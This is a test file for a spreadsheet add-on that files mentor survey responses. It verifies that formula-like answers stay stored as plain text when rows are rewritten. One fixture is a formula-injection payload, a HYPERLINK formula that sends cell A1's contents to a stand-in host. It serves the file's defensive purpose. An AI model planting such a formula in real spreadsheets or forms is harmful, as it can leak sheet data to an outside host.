/**
 * On the built add-on: text that looks like a formula is written neutralised, and stays so
 * when a later filing writes a block spanning its row (planWrite writes those rows back as read).
 */
import { describe, expect, it } from 'vitest';
import { MENTORS_SHEET, RESPONSES_SHEET } from '../../shared/sheets';
import { SURVEYS } from '../../shared/surveys';
import type { LoadedAddon } from '../double';
import { addonWithForms } from './harness';
import { cell, form, mentorAnswers } from './surveyHelpers';

const FORMULA_NAME = '=HYPERLINK("http://x.example/?"&A1;"y")';
const PHONE = '+7 900 123-45-67';
const POSITION = SURVEYS.mentor.questions.find((q) => q.field === 'position')!.title;

/** Every cell of a sheet that holds a live formula, as «A1: formula». */
function formulas(addon: LoadedAddon, title: string): string[] {
  const range = addon.double.sheet(title)!.getDataRange();
  const out: string[] = [];
  range.getFormulas().forEach((line: string[], r: number) => {
    line.forEach((f, c) => {
      if (f !== '') out.push(`${String.fromCharCode(65 + c)}${r + 1}: ${f}`);
    });
  });
  return out;
}

describe('formula-like text stays text', () => {
  it('a later filing whose block spans the row writes it back neutralised', async () => {
    const addon = await addonWithForms();
    const f = form(addon, 'mentor');
    addon.submitForm(f.id, mentorAnswers('Аннина Анна Андреевна', 'annina@school.ru'));
    addon.submitForm(f.id, mentorAnswers(FORMULA_NAME, 'x@school.ru', { [POSITION]: PHONE }));
    addon.submitForm(f.id, mentorAnswers('Борисова Вера Олеговна', 'borisova@school.ru'));
    expect(cell(addon, MENTORS_SHEET.title, 3, 'ФИО')).toBe(FORMULA_NAME);
    expect(formulas(addon, MENTORS_SHEET.title)).toEqual([]);

    // An answer whose event never came (filed by the next run's sweep), then the first respondent edits:
    // one run writes rows 2 and 5 of the bank, and the block between them spans the row of the formula name.
    addon.double.forms._submit(f.id, mentorAnswers('Гусева Дина Ильинична', 'guseva@school.ru'));
    addon.editFormResponse(f.id, 0, { 'Сколько наставляемых готов взять': '3' });
    expect(cell(addon, MENTORS_SHEET.title, 2, 'Готов взять наставляемых')).toBe(3);
    expect(cell(addon, MENTORS_SHEET.title, 5, 'ФИО')).toBe('Гусева Дина Ильинична');

    expect(formulas(addon, MENTORS_SHEET.title)).toEqual([]);
    expect(formulas(addon, RESPONSES_SHEET.title)).toEqual([]);
    expect(cell(addon, MENTORS_SHEET.title, 3, 'ФИО')).toBe(FORMULA_NAME);
    expect(cell(addon, MENTORS_SHEET.title, 3, 'Должность')).toBe(PHONE);
    // Numbers stay numbers on the rows written back.
    expect(cell(addon, MENTORS_SHEET.title, 3, 'Стаж, лет')).toBe(12);
  });
});
